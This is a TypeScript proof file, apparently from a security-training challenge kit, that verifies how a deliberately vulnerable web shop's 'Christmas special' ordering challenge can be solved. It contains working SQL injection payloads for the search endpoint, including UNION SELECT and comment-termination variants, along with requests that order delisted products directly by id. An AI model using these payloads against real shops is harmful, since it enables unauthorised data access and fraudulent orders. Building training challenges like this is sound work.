import { addOrderDetails } from '@fruit/challenge-kit/order-details'
import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

interface Product {
  readonly id: number
  readonly name: string
  readonly deletedAt: string | null
}

async function search(attacker: Attacker, term: string): Promise<Product[]> {
  const { status, json } = await attacker.get(`/rest/products/search?q=${encodeURIComponent(term)}`)
  return status === 200 ? json().data : []
}

const isSpecial = ({ name }: Product) => /christmas/i.test(name)
/** Returns the ids that are missing from a search for all products. */
async function gaps(attacker: Attacker): Promise<number[]> {
  const shown = new Set((await search(attacker, '')).map(({ id }) => id))
  return Array.from({ length: Math.max(...shown) }, (_, index) => index + 1).filter((id) => !shown.has(id))
}

const put = (attacker: Attacker, item: object) => attacker.post('/api/BasketItems', { quantity: 1, ...item })

async function checkOut(attacker: Attacker, basketId: number) {
  const orderDetails = await addOrderDetails(attacker)
  return attacker.post(`/rest/basket/${basketId}/checkout`, { orderDetails })
}

/** Orders products as a new customer. @param items product ids, or the fields to send instead of an id */
async function order(attacker: Attacker, ...items: readonly (number | object)[]) {
  const { basketId } = await attacker.becomeCustomer()
  for (const item of items)
    await put(attacker, { BasketId: basketId, ...(typeof item === 'number' ? { ProductId: item } : item) })
  return checkOut(attacker, basketId)
}

/** Searches for a term and orders the Christmas special if it is among the results. */
const found = (term: string) => async (attacker: Attacker) => {
  const special = (await search(attacker, term)).find(isSpecial)
  if (special) await order(attacker, special.id)
}

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    // If the search does not return the product, its id is the first gap in the product ids.
    const special = (await search(attacker, "'))--")).find(isSpecial)
    await order(attacker, special?.id ?? (await gaps(attacker))[0]!)
  },
  spellings: {
    'found by its name': found("christmas%'))--"),
    'found by a comment that is left open': found("'))/*"),
    'found by a semicolon': found("'));"),
    'found by what left the shelf': found("' OR deletedAt IS NOT NULL))--"),
    'found by another selection': found("x')) UNION SELECT * FROM Products WHERE deletedAt IS NOT NULL--"),
    'found by one column of it': found(
      "x')) UNION SELECT id,name,3,4,5,6,7,8,9 FROM Products WHERE name LIKE '%christmas%'--",
    ),
    'by all numbers that are missing': async (attacker) => order(attacker, ...(await gaps(attacker))),
    'by its number alone': (attacker) => order(attacker, 10),
    'by its number as a text': (attacker) => order(attacker, { ProductId: '10' }),
    'three of it': (attacker) => order(attacker, { ProductId: 10, quantity: 3 }),
    'between other things': (attacker) => order(attacker, 2, 10, 24),
  },
  nearMisses: {
    'looking at it': (attacker) => search(attacker, "'))--"),
    'putting it into a basket, and no more': async (attacker) => {
      const { basketId } = await attacker.becomeCustomer()
      await put(attacker, { ProductId: 10, BasketId: basketId })
      await attacker.get(`/rest/basket/${basketId}`)
    },
    'ordering another product that left the shelf': (attacker) => order(attacker, 11),
    'ordering what the shop sells': (attacker) => order(attacker, 2),
    'taking it out of the basket and ordering the rest': async (attacker) => {
      const { basketId } = await attacker.becomeCustomer()
      await put(attacker, { ProductId: 2, BasketId: basketId })
      const added = await put(attacker, { ProductId: 10, BasketId: basketId })
      await attacker.delete(`/api/BasketItems/${added.json().data.id}`)
      await checkOut(attacker, basketId)
    },
    'checking out the basket of somebody else': async (attacker) => {
      const { basketId } = await attacker.becomeCustomer()
      await put(attacker, { ProductId: 10, BasketId: basketId })
      await attacker.becomeCustomer()
      await checkOut(attacker, basketId)
    },
    'ordering a product that nobody has': (attacker) => order(attacker, 987_654),
  },
  bypasses: {
    'compare-the-date': (attacker) => order(attacker, 10),
  },
})
